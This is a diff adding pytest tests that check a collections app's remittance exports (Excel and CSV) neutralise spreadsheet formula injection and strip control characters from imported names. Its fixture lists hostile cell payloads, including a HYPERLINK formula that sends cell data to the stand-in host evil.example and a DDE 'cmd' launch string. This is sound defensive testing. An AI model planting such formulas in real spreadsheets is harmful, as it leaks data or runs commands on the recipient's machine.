@@ -116,3 +116,93 @@ def test_tier_rate_is_the_highest_tier_reached():
     tiers = [remittance.Tier(365, Decimal("33")), remittance.Tier(730, Decimal("40"))]
     assert [remittance.commission_pct(Decimal("25"), tiers, age) for age in (None, 0, 364, 365, 729, 730, 5000)] == [
         Decimal("25"), Decimal("25"), Decimal("25"), Decimal("33"), Decimal("33"), Decimal("40"), Decimal("40")]
+
+
+# --- the files are safe to open ---------------------------------------------------------------------------
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+                 "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def hostile(session_factory):
+    """A client whose consumers' names (from a placement file) are spreadsheet formulas or hold control
+    characters that an .xlsx file cannot contain."""
+    with session_factory() as s, s.begin():
+        client = make_client(s, code="EVIL", name="=Evil Bank")
+        for i, name in enumerate(FORMULA_NAMES):
+            account = make_account(s, client=client, client_account_number=f"=E{i}",
+                                   person=make_person(s, first_name=None, last_name=name))
+            pay(s, account, "10.00", dt.date(2026, 10, 5 + i))
+        control = make_client(s, code="CTRL", name="Control\x1b Bank")
+        account = make_account(s, client=control, client_account_number="C\x07",
+                               person=make_person(s, first_name="Pat\x1b", last_name="Doe\r\nJr\x0b"))
+        pay(s, account, "10.00", dt.date(2026, 10, 5))
+    return session_factory
+
+
+def test_a_consumer_name_is_never_a_formula_in_the_excel_statement(hostile, tmp_path):
+    st = remittance.statement(hostile, SUPERVISOR, "EVIL", *OCT)
+    book = openpyxl.load_workbook(remittance.export(st, tmp_path / "evil.xlsx"))
+    cells = [c for row in book["Payments"].iter_rows(min_row=2) for c in row] + \
+            [c for row in book["Summary"].iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    names = [row[2] for row in book["Payments"].iter_rows(min_row=2, values_only=True)]
+    assert names == ["'" + n.replace("\r", "\n") for n in FORMULA_NAMES]
+    accounts = [row[1] for row in book["Payments"].iter_rows(min_row=2, values_only=True)]
+    assert accounts == [f"'=E{i}" for i in range(6)]
+    assert book["Summary"]["B1"].value == "'=Evil Bank (EVIL)"
+    amounts = [row[5] for row in book["Payments"].iter_rows(min_row=2, values_only=True)]
+    assert all(isinstance(a, (int, float)) and a == 10 for a in amounts)  # numbers stay numbers
+
+
+def test_a_consumer_name_is_never_a_formula_in_the_csv_statement(hostile, tmp_path):
+    st = remittance.statement(hostile, SUPERVISOR, "EVIL", *OCT)
+    with remittance.export(st, tmp_path / "evil.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["Remittance statement", "EVIL", "'=Evil Bank"]
+    detail = rows[rows.index(remittance.DETAIL_HEADERS) + 1:]
+    assert [r[2] for r in detail] == ["'" + n.replace("\r", "\n") for n in FORMULA_NAMES]
+    assert all(r[1].startswith("'=") for r in detail)
+    assert [r[5] for r in detail] == ["10.00"] * 6
+    summary = {r[0]: r[1] for r in rows if len(r) == 2}
+    assert summary["Total collected"] == "60.00"
+
+
+def test_control_characters_an_import_accepted_do_not_stop_the_excel_statement(hostile, tmp_path):
+    st = remittance.statement(hostile, SUPERVISOR, "CTRL", *OCT)
+    book = openpyxl.load_workbook(remittance.export(st, tmp_path / "control.xlsx"))
+    row = next(book["Payments"].iter_rows(min_row=2, values_only=True))
+    assert row[1:3] == ("C", "Pat Doe\nJr")  # ESC, BEL and vertical tab removed; the line break kept
+    assert book["Summary"]["B1"].value == "Control Bank (CTRL)"
+    assert Decimal(str(row[5])) == Decimal("10.00")
+
+
+def test_the_command_line_writes_a_safe_excel_statement(tmp_path, capsys):
+    from ccs_desktop import cli, db
+
+    url = f"sqlite:///{(tmp_path / 'cli.sqlite3').as_posix()}"
+    engine, factory = db.open_database(url)
+    try:
+        with factory() as s, s.begin():
+            client = make_client(s, code="CLI")
+            account = make_account(s, client=client, person=make_person(s, first_name=None,
+                                                                           last_name="=1+1\x1b\r\nX"))
+            pay(s, account, "12.50", dt.date(2026, 10, 7))
+    finally:
+        engine.dispose()
+    out = tmp_path / "cli.xlsx"
+    assert cli.main(["--database", url, "remittance", "--client", "CLI", "--from", "2026-10-01",
+                     "--to", "2026-10-31", "--out", str(out)]) == 0
+    cell = openpyxl.load_workbook(out)["Payments"]["C2"]
+    assert cell.data_type == "s" and cell.value == "'=1+1\nX"
+
+
+def test_the_statement_dialogs_client_list_is_for_supervisors(portfolio):
+    with portfolio() as s, s.begin():
+        make_client(s, code="AAA", name="Alpha Lending")
+    codes = [code for code, _name in remittance.clients(portfolio, SUPERVISOR)]
+    assert codes[0] == "AAA" and "RMT" in codes and codes == sorted(codes)
+    assert ("RMT", "Remit Test Bank") in remittance.clients(portfolio, SUPERVISOR)
+    with pytest.raises(PermissionDenied):
+        remittance.clients(portfolio, Actor(None, "cole", Role.COLLECTOR))
